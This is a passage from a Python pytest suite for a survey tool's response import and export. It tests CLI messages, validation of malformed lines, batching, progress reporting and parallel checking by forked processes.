        "Exported 5 responses.\n",
    )


def test_cli_reports_every_bad_line_and_imports_nothing(project: Path, tmp_path: Path) -> None:
    path = write(tmp_path, "bad.jsonl", "\n".join([line(), line(survey="x"), line(answers={"recommend": "lots"})]))
    result = run("-C", str(project), "responses", "import", str(path))
    assert result.exit_code == 1
    assert result.stderr == (
        f"{path}:2: survey 'x' does not exist\n{path}:3: recommend: Enter a number.\n"
        "Stopped: 2 invalid lines. Nothing was imported.\n"
    )
    assert result.stdout == ""
    assert run("-C", str(project), "responses", "export").stderr == "Exported 0 responses.\n"


def test_cli_skip_invalid_imports_the_rest_and_exits_0(project: Path, tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "bad.csv",
        "survey,submitted_at,recommend\nafter-visit,2026-05-01T10:00:00Z,9\nafter-visit,2026-05-01T10:00:00Z,x\n",
    )
    result = run("-C", str(project), "responses", "import", "--skip-invalid", str(path))
    assert (result.exit_code, result.stderr) == (0, f"{path}:3: recommend: Enter a number.\n")
    assert result.stdout == "Imported 1 new response (0 already stored) from 1 file. Skipped 1 invalid line.\n"


def test_cli_refuses_a_file_of_unknown_format_before_reading_anything(project: Path, tmp_path: Path) -> None:
    good, odd = write(tmp_path, "good.jsonl", line()), write(tmp_path, "responses.txt", line())
    result = run("-C", str(project), "responses", "import", str(good), str(odd))
    assert (result.exit_code, result.stderr) == (
        1,
        f"Error: {odd}: cannot tell the format; name the file .jsonl (JSON Lines) or .csv\n",
    )
    assert run("-C", str(project), "responses", "export").stderr == "Exported 0 responses.\n"


def test_cli_export_writes_csv_of_one_survey_to_a_file(project: Path, tmp_path: Path) -> None:
    run(
        "-C",
        str(project),
        "responses",
        "import",
        str(
            write(
                tmp_path, "in.jsonl", f"{line(id='one-response')}\n{line(survey='journey-order', answers={'ease': 3})}"
            )
        ),
    )
    output = tmp_path / "out" / "after-visit.csv"
    output.parent.mkdir()
    result = run(
        "-C", str(project), "responses", "export", "--survey", "after-visit", "--format", "csv", "--output", str(output)
    )
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", f"Exported 1 response to {output}.\n")
    rows = output.read_text(encoding="utf-8").splitlines()
    assert rows[0].startswith("id,survey,version,submitted_at,lang,meta.location,meta.stage,recommend,improve,")
    version = version_in(load_site(project), "after-visit")
    assert rows[1:] == [f"one-response,after-visit,{version},2026-05-01T10:00:00Z,lv,jelgava,purchase,9" + "," * 14]


def test_cli_export_of_an_unknown_survey_is_an_error(project: Path) -> None:
    result = run("-C", str(project), "responses", "export", "--survey", "after-vist")
    assert (result.exit_code, result.stderr) == (
        1,
        "Error: survey 'after-vist' does not exist. Did you mean 'after-visit'?\n",
    )


def test_cli_keeps_the_default_store_inside_the_project_whatever_the_working_directory(
    example_project_files: Path, tmp_path: Path
) -> None:
    project = tmp_path / "elsewhere" / "project"
    shutil.copytree(example_project_files, project)
    config = project / "sitegen.yaml"
    config.write_text(re.sub(r"(?m)^store:.*\n", "", config.read_text(encoding="utf-8")), encoding="utf-8")
    result = run("-C", str(project), "responses", "import", str(write(tmp_path, "in.jsonl", line())))
    assert result.exit_code == 0
    assert (project / "data" / "responses.sqlite3").is_file()


def test_an_anonymous_survey_keeps_only_the_day_of_an_imported_response(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    answers = {
        "role": "barista",
        "standards_clear": 5,
        "standards_possible": 4,
        "training": 4,
        "tools": 3,
        "management_feedback": 4,
        "management_listens": 4,
        "consent": "2026-11",
    }
    record = {
        "id": "anon-000001",
        "survey": "employee-annual",
        "submitted_at": "2026-11-20T15:42:07Z",
        "lang": "lv",
        "meta": {},
        "answers": answers,
    }
    path = write(tmp_path, "anon.jsonl", json.dumps(record) + "\n")
    import_responses(site, memory_store, [path])
    stored = memory_store.get("anon-000001")
    assert stored is not None and stored.submitted_at == dt.datetime(2026, 11, 19, 22, 0, tzinfo=dt.UTC)


def test_an_import_opens_cases_only_when_asked_and_once(
    site: Site, store: ResponseStore, memory_store: ResponseStore, samples: list[StoredResponse], tmp_path: Path
) -> None:
    store.add(samples)
    path = write(tmp_path, "export.jsonl", export_text(site, store))
    import_responses(site, memory_store, [path])
    everything = ("open", "contacted", "resolved", "dismissed")
    now = dt.datetime.now(dt.UTC)
    assert memory_store.cases.find(now, statuses=everything) == []
    with ResponseStore.open("sqlite://", tmp_path) as fresh:
        import_responses(site, fresh, [path], open_cases=True)
        import_responses(site, fresh, [path], open_cases=True)
        opened = fresh.cases.find(now, statuses=everything)
        # The detractor who left an e-mail, and the complaint-log entry (each opens one).
        assert sorted((case.response_id, case.survey_id) for case in opened) == sorted(
            (response.id, response.survey_id)
            for response in samples
            if response.id == "visit-0001" or response.survey_id == "complaint-log"
        )
        assert {case.opened_at for case in opened} == {
            response.submitted_at for response in samples if response.id in {case.response_id for case in opened}
        }


# ---- import at scale: one pass, batches, progress ------------------------------------------------


@pytest.mark.parametrize("bad_line", [1, 2, 3, 6, 7])
def test_an_invalid_line_after_batches_were_stored_undoes_them_and_every_problem_is_reported(
    site: Site, memory_store: ResponseStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bad_line: int
) -> None:
    monkeypatch.setattr(interchange, "IMPORT_BATCH", 2)
    lines = [line(id=f"line-{number:04d}") for number in range(1, 8)]
    lines[bad_line - 1] = line(id=f"line-{bad_line:04d}", answers={"recommend": 11})
    lines.append(line(id="line-0008", lang="de"))
    path = write(tmp_path, "late.jsonl", "\n".join(lines) + "\n")
    report = import_responses(site, memory_store, [path])
    assert report.is_refused and (report.new, report.existing, report.invalid_lines) == (0, 0, 2)
    assert [str(problem) for problem in report.problems] == [
        f"{path}:{bad_line}: recommend: Enter a number from 0 to 10.",
        f"{path}:8: lang: This language is not offered.",
    ]
    assert memory_store.count() == 0 and memory_store.versions() == []
    skipped = import_responses(site, memory_store, [path], skip_invalid=True)
    assert (skipped.new, skipped.invalid_lines) == (6, 2)
    assert sorted(response.id for response in memory_store.responses()) == sorted(
        f"line-{number:04d}" for number in range(1, 8) if number != bad_line
    )


def test_a_line_the_store_refuses_before_an_invalid_one_is_reported_as_the_invalid_line(
    site: Site, store: ResponseStore, store_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As when every line was checked before any was stored: while a line is invalid, that is the refusal."""
    monkeypatch.setattr(interchange, "IMPORT_BATCH", 2)
    add_refusal_rule(store_url, tmp_path)
    lines = [
        line(id="line-0001"),
        line(id=f"{REFUSED_PREFIX}0002"),
        line(id="line-0003"),
        line(answers={"recommend": 11}),
    ]
    path = write(tmp_path, "both.jsonl", "\n".join(lines) + "\n")
    report = import_responses(site, store, [path])
    assert report.is_refused and not report.is_unstorable
    assert [str(problem) for problem in report.problems] == [f"{path}:4: recommend: Enter a number from 0 to 10."]
    skipped = import_responses(site, store, [path], skip_invalid=True)
    assert skipped.is_unstorable and [(problem.line, problem.message[:18]) for problem in skipped.problems] == [
        (4, "recommend: Enter a"),
        (2, DATABASE_REFUSAL),
    ]
    assert store.count() == 0


def test_an_import_freezes_what_was_alive_before_it_and_leaves_the_collector_as_it_found_it(
    site: Site, memory_store: ResponseStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write(tmp_path, "a.jsonl", line(id="line-0001") + "\n")
    reading = interchange._read_lines
    frozen_while_reading: list[int] = []

    def read(*args: Any) -> Iterator[Any]:
        frozen_while_reading.append(gc.get_freeze_count())
        yield from reading(*args)

    monkeypatch.setattr(interchange, "_read_lines", read)
    gc.unfreeze()  # only the collector's passes change: nothing of another test depends on it
    import_responses(site, memory_store, [path])
    assert frozen_while_reading[0] > 0 and gc.get_freeze_count() == 0
    gc.freeze()  # as the collector's server does: frozen it stays
    try:
        frozen = gc.get_freeze_count()
        import_responses(site, memory_store, [path])
        assert gc.get_freeze_count() >= frozen > 0
    finally:
        gc.unfreeze()


def test_progress_is_told_every_line_read_in_steps_of_a_batch(
    site: Site, memory_store: ResponseStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(interchange, "IMPORT_BATCH", 3)
    first = write(tmp_path, "a.jsonl", "\n".join(line(id=f"line-a{number:03d}") for number in range(7)) + "\n\n")
    second = write(tmp_path, "b.csv", "survey,submitted_at,recommend\n" + "after-visit,2026-05-01T10:00:00Z,9\n" * 4)
    steps: list[int] = []
    report = import_responses(site, memory_store, [first, second, first], progress=steps.append)
    assert (report.new, report.existing) == (11, 7)
    assert steps == [3, 3, 3, 3, 3, 3, 1]  # 7 + 5 + 7: a blank line at the end of a file is not read as one
    assert interchange.line_count([first, second, first]) == 8 + 5 + 8
    assert interchange.line_count([write(tmp_path, "c.jsonl", "a\nb"), write(tmp_path, "d.jsonl", "")]) == 2


def test_the_cli_shows_no_progress_bar_in_a_pipe(project: Path, tmp_path: Path) -> None:
    path = write(tmp_path, "in.jsonl", "\n".join(line(id=f"line-{number:04d}") for number in range(3)))
    result = run("-C", str(project), "responses", "import", str(path))
    assert result.exit_code == 0 and result.stderr == ""
    assert result.stdout == "Imported 3 new responses (0 already stored) from 1 file.\n"


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_the_cli_shows_a_progress_bar_of_the_lines_on_a_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write(tmp_path, "in.jsonl", "\n".join(line(id=f"line-{number:04d}") for number in range(4)))
    terminal = _Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    with cli._import_progress([path, path]) as progress:
        assert progress is not None
        progress(8)
    assert "Importing" in terminal.getvalue() and "8/8" in terminal.getvalue()


# ---- checked by forked processes ---------------------------------------------------------------

CHECKED_ASIDE = [(1, 1 << 20), (2, 97), (2, 1000), (3, 333)]
"""(forked processes, chunk bytes): the whole file one chunk, a forked process's; chunk boundaries inside nearly every
line; a few lines a chunk; three forked processes and the importing one, so chunk i and i + 2 go to different ones."""
BAD_LINES = [
    line(survey="after-visti").encode("utf-8"),
    line(id="bad-answer-0001", answers={"recommend": "lots", "liked": ["coffee", "tea"]}).encode("utf-8"),
    b'{"survey": "after-visit",',
    b"[1, 2]",
    line(id="bad-version-0001", version="0123456789abcdef").encode("utf-8"),
    line(id="x").encode("utf-8"),
    b'{"survey": "\xff"}',
    ("\ufeff" + line(id="bom-0001")).encode("utf-8"),  # a BOM begins only the file's first line
]


def older_version(site: Site) -> SurveyVersion:
    """A version of journey-order before its last question was added: a file must describe it to name it."""
    survey = next(source.model for source in site.surveys if source.model.id == "journey-order")
    return version_of(
        survey.model_copy(update={"questions": survey.questions[:-1]}), dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    )


def mixed_file(site: Site, samples: list[StoredResponse], tmp_path: Path, *, bad_every: int = 0) -> Path:
    """Lines of every kind a file may hold, about 200, their order what a check of one line may depend on: a BOM, a
    survey version described at the top and named further on, every survey (the anonymous one too), ids given and
    derived (identical lines among them), an id given twice with different answers, one the store holds, blank lines,
    and, every `bad_every` lines, one of BAD_LINES; the last line without its newline."""
    older = older_version(site)
    lines: list[bytes] = [("\ufeff" + interchange.version_line(older)).encode("utf-8")]
    for number in range(1, 200):
        sample = samples[number % len(samples)]
        text = jsonl_line(dataclasses.replace(sample, id=f"mixed-{number:04d}"))
        if number % 11 == 0:
            text = json.dumps(
                {
                    "id": f"older-{number:04d}",
                    "survey": "journey-order",
                    "version": older.version,
                    "submitted_at": "2025-12-01T10:00:00Z",  # before the version's first_seen: it moves back
                    "lang": "lv",
                    "meta": {"location": "riga-mall"},
                    "answers": {"ease": 5, "order_date": "2025-11-22", "order_ok": "yes"},
                }
            )
        elif number % 13 == 0:
            text = line(answers={"recommend": number % 2})  # no id: derived, and copies counted across chunks
        elif number % 17 == 0:
            text = line(id="mixed-0003", answers={"recommend": number % 10})  # the id of line 4: it stays that line's
        elif number % 19 == 0:
            text = jsonl_line(samples[0])  # stored before the import
        elif number % 23 == 0:
            text = ""
        if bad_every and number % bad_every == 0:
            lines.append(BAD_LINES[(number // bad_every) % len(BAD_LINES)])
            continue
        lines.append(text.encode("utf-8"))
    path = tmp_path / f"mixed-{bad_every}.jsonl"
    path.write_bytes(b"\n".join(lines))
    return path


def kept_rows(store: ResponseStore) -> dict[str, list[Any]]:
    """Every row the import writes, as the database gives it back (the responses in the order they were inserted)."""
    with store.engine.connect() as connection:
        kept = {"responses": connection.exec_driver_sql("SELECT rowid, * FROM responses ORDER BY rowid").fetchall()}
        for name in ("anonymous_responses", "survey_versions", "version_tallies"):
            kept[name] = sorted(connection.exec_driver_sql(f"SELECT * FROM {name}").fetchall(), key=repr)
    return kept


def imported_both_ways(
    site: Site,
    samples: list[StoredResponse],
    tmp_path: Path,
    path: Path,
    workers: int,
    chunk_bytes: int,
    **options: Any,
) -> tuple[tuple[ImportReport, dict[str, list[Any]]], tuple[ImportReport, dict[str, list[Any]]]]:
    """(report, rows kept) of the file checked here, then of it checked by forked processes; each store held
    samples[0] before."""
    results = []
    for asked in ({"workers": 0}, {"workers": workers, "chunk_bytes": chunk_bytes}):
        with ResponseStore.open("sqlite://", tmp_path) as store:
            keep(site, store, samples[:1])
            report = import_responses(site, store, [path], **asked, **options)
            results.append((report, kept_rows(store)))
    return results[0], results[1]


@pytest.mark.parametrize(("workers", "chunk_bytes"), CHECKED_ASIDE)
def test_lines_checked_by_forked_processes_are_stored_as_the_same_bytes_as_lines_checked_here(
    site: Site, samples: list[StoredResponse], tmp_path: Path, workers: int, chunk_bytes: int
) -> None:
    path = mixed_file(site, samples, tmp_path)
    (here, here_rows), (aside, aside_rows) = imported_both_ways(site, samples, tmp_path, path, workers, chunk_bytes)
    assert here.problems == [] and here.new > 150 and here.existing >= 10
    assert (aside.new, aside.existing, aside.problems) == (here.new, here.existing, here.problems)
    assert aside_rows == here_rows
    older = older_version(site)
    [first_seen] = [row[4] for row in here_rows["survey_versions"] if row[1] == older.version]
    assert str(first_seen).startswith("2025-12-01")  # moved back to its earliest response, in another chunk


@pytest.mark.parametrize("skip_invalid", [False, True], ids=["refused", "skipped"])
@pytest.mark.parametrize(("workers", "chunk_bytes"), CHECKED_ASIDE)
def test_bad_lines_anywhere_in_the_chunks_are_reported_alike_by_line_and_in_order(
    site: Site, samples: list[StoredResponse], tmp_path: Path, workers: int, chunk_bytes: int, skip_invalid: bool
) -> None:
    path = mixed_file(site, samples, tmp_path, bad_every=7)
    (here, here_rows), (aside, aside_rows) = imported_both_ways(
        site, samples, tmp_path, path, workers, chunk_bytes, skip_invalid=skip_invalid
    )
    assert here.invalid_lines >= 20 and here.is_refused != skip_invalid
    assert [str(problem) for problem in aside.problems] == [str(problem) for problem in here.problems]
    assert (aside.invalid_lines, aside.new, aside.existing, aside.is_refused) == (
        here.invalid_lines,
        here.new,
        here.existing,
        here.is_refused,
    )
    assert aside_rows == here_rows
    if not skip_invalid:
        assert len(aside_rows["responses"]) == 1 and aside_rows["anonymous_responses"] == []  # samples[0] only


IMPORTING_PROCESS = os.getpid()


def killed_at_the_fourth_chunk(known: Any, path: Path, start: int, end: int) -> Any:
    """`_checked_chunk`, in a forked checking process that is killed when it comes to the fourth chunk of the file."""
    if start >= 3 * 1000 and os.getpid() != IMPORTING_PROCESS:
        os.kill(os.getpid(), signal.SIGKILL)
    return CHECKED_CHUNK(known, path, start, end)


CHECKED_CHUNK = interchange._checked_chunk


def test_a_checking_process_killed_mid_import_fails_it_loudly_and_stores_nothing(
    site: Site, samples: list[StoredResponse], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = mixed_file(site, samples, tmp_path)
    monkeypatch.setattr(interchange, "IMPORT_BATCH", 3)  # batches are stored before the process dies
    monkeypatch.setattr(interchange, "_checked_chunk", killed_at_the_fourth_chunk)
    with ResponseStore.open("sqlite://", tmp_path) as store:
        keep(site, store, samples[:1])
        before = kept_rows(store)
        added: list[int] = []
        with pytest.raises(WorkerFailed, match=r"exit code -9\) before it handed back its lines; nothing was imported"):
            import_responses(site, store, [path], workers=2, chunk_bytes=1000, progress=added.append)
        assert sum(added) >= 3  # lines of the first chunks were read (and stored) before the death
        assert kept_rows(store) == before
    assert multiprocessing.active_children() == []


def test_an_import_checked_aside_stores_what_one_checked_here_does_on_every_back_end(
    site: Site, store: ResponseStore, samples: list[StoredResponse], tmp_path: Path
) -> None:
    path = mixed_file(site, samples, tmp_path)
    keep(site, store, samples[:1])
    aside = import_responses(site, store, [path], workers=2, chunk_bytes=500)
    with ResponseStore.open("sqlite://", tmp_path) as here_store:
        keep(site, here_store, samples[:1])
        here = import_responses(site, here_store, [path], workers=0)
        assert export_text(site, store) == export_text(site, here_store)
    assert (aside.new, aside.existing, aside.problems) == (here.new, here.existing, [])


def test_progress_is_told_the_same_lines_whichever_process_checks_them(
    site: Site, samples: list[StoredResponse], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(interchange, "IMPORT_BATCH", 7)
    path = mixed_file(site, samples, tmp_path, bad_every=7)
    steps: dict[int, list[int]] = {}
    for workers in (0, 2):
        with ResponseStore.open("sqlite://", tmp_path) as store:
            steps[workers] = []
            import_responses(site, store, [path], workers=workers, chunk_bytes=333, progress=steps[workers].append)
    assert steps[2] == steps[0] and sum(steps[0]) == 200


def test_a_small_file_is_checked_here_and_a_large_one_by_a_process_per_core(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write(tmp_path, "a.jsonl", line(id="line-0001") + "\n")
    assert interchange._workers_for(path, None) == 0
    assert interchange._workers_for(path, 3) == 3
    monkeypatch.setattr(interchange, "ASIDE_FROM", 10)
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {0, 1})
    assert interchange._workers_for(path, None) == 1  # and the importing process checks too
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {0})
    assert interchange._workers_for(path, None) == 0


def test_cases_an_import_opens_are_the_same_whichever_process_checks_the_lines(
    site: Site, samples: list[StoredResponse], tmp_path: Path
) -> None:
    path = mixed_file(site, samples, tmp_path)
    opened: dict[int, list[tuple[Any, ...]]] = {}
    for workers in (0, 2):
        with ResponseStore.open("sqlite://", tmp_path) as store:
            import_responses(site, store, [path], open_cases=True, workers=workers, chunk_bytes=500)
            cases = store.cases.find(dt.datetime.now(dt.UTC), statuses=("open", "contacted", "resolved", "dismissed"))
            opened[workers] = sorted(
                (case.response_id, case.survey_id, case.opened_at, case.due_at, case.contact, case.summary)
                for case in cases
            )
    assert len(opened[0]) >= 10 and opened[2] == opened[0]
